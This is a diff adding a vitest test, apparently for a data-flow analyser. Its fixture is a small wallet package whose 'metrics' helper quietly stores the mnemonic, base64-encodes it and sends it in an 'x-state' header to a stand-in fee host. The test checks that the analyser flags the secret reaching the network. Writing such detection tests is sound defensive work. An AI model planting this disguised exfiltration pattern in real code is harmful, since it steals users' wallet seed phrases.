@@ -1,0 +1,24 @@
+import { describe, expect, test } from 'vitest';
+import { flows, follow } from '../sample.js';
+
+describe('functions that nobody of the package calls', () => {
+  test('a flush that may come too early takes nothing from the one that comes later', () => {
+    const files = {
+      'index.js': `const { Wallet } = require('./wallet'); const { Client } = require('./client');
+exports.Wallet = Wallet; exports.Client = Client;`,
+      'wallet.js': `const { metrics } = require('./metrics');
+function Wallet(words) { this.words = words; }
+Wallet.of = function (mnemonic) { metrics.count('words', mnemonic); return new Wallet(mnemonic); };
+Wallet.prototype.sign = function (text) { return text + 1; };
+exports.Wallet = Wallet;`,
+      'metrics.js': `class Metrics { constructor() { this.kept = []; } count(name, label) { this.kept.push([name, label]); }
+report() { const out = this.kept.splice(0); return out.length ? Buffer.from(JSON.stringify(out)).toString('base64') : undefined; } }
+exports.metrics = new Metrics();`,
+      'client.js': `const { metrics } = require('./metrics');
+class Client { headers() { const state = metrics.report(); return state ? { 'x-state': state } : {}; }
+fee() { return fetch('https://fees.example/now', { headers: this.headers() }); } }
+exports.Client = Client;`,
+    };
+    expect(flows(follow(files), 'param.secret', 'net.out')).toBeDefined();
+  });
+});
